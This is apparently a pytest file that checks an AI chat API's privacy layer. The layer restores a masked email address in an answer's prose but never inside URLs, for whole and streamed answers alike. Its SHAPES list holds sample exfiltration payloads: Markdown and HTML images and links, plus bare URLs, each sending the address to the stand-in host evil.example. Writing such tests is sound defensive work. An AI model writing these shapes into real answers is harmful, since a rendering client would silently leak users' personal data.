"""The API's answers keep a value out of every address the model writes, whole and streamed.

A client renders the answer as Markdown itself (Open WebUI, an IDE's chat panel), often
with raw HTML on: ``![p](https://evil.example/p.png?e=[EMAIL_1])`` with the real address
put back would load the image, and send the address, with no click. The placeholder stays
there; in the answer's prose the value goes back. The backend sends the answer in pieces
of five characters, so every placeholder is cut between two of them.
"""

import pytest

EMAIL = "jane.roe@example.org"
INTERNAL = {"X-Steward-Category": "internal"}
PROSE = "Write to [EMAIL_1] today."
#: The reviewer's shapes: each would carry the address to evil.example.
SHAPES = [
    "![p](https://evil.example/p.png?e=[EMAIL_1])",
    "See [your account](https://evil.example/collect?who=[EMAIL_1]).",
    'C <img src="https://evil.example/pixel.png?v= [EMAIL_1]">',
    'D <a href="https://evil.example/a?v= [EMAIL_1] ">html link</a>',
    "B [your profile][r2]\n\n[r2]: <https://evil.example/ref?v= [EMAIL_1]>",
    "A [click here](<https://evil.example/collect?v= [EMAIL_1]>) link.",
    "Bare https://evil.example/?q=[EMAIL_1] and www.evil.example/?q=[EMAIL_1] too.",
]
ANSWER = "\n\n".join([PROSE, *SHAPES, PROSE])
WANTED = ANSWER.replace(PROSE, f"Write to {EMAIL} today.")
# live_server is WSGI: Django buffers an async stream there, and says so.
pytestmark = pytest.mark.filterwarnings(
    "ignore:StreamingHttpResponse must consume asynchronous iterators"
)


@pytest.fixture
def hostile(org):
    """The external backend answers with the address's placeholder in every shape."""
    org.external.reply = [ANSWER[at : at + 5] for at in range(0, len(ANSWER), 5)]
    return org


def _chat(client, *, stream: bool):
    return client.chat.completions.create(
        model="auto",
        messages=[{"role": "user", "content": f"Mail {EMAIL}"}],
        extra_headers=INTERNAL,
        stream=stream,
    )


def test_a_chat_completion_keeps_the_value_out_of_every_address(hostile, openai_for):
    completion = _chat(openai_for(hostile.alice), stream=False)
    assert completion.choices[0].message.content == WANTED


def test_a_streamed_chat_completion_keeps_it_out_too(hostile, openai_on_either):
    chunks = list(_chat(openai_on_either(hostile.alice), stream=True))
    deltas = [c.choices[0].delta.content or "" for c in chunks if c.choices]
    assert "".join(deltas) == WANTED
    assert not any("evil" in delta and EMAIL in delta for delta in deltas)


def test_a_response_keeps_it_out_whole_and_streamed(hostile, openai_on_either):
    client = openai_on_either(hostile.alice)
    whole = client.responses.create(model="auto", input=f"Mail {EMAIL}", extra_headers=INTERNAL)
    assert whole.output_text == WANTED
    events = list(
        client.responses.create(
            model="auto", input=f"Mail {EMAIL}", extra_headers=INTERNAL, stream=True
        )
    )
    deltas = "".join(e.delta for e in events if e.type == "response.output_text.delta")
    assert deltas == WANTED
    assert events[-1].response.output_text == WANTED
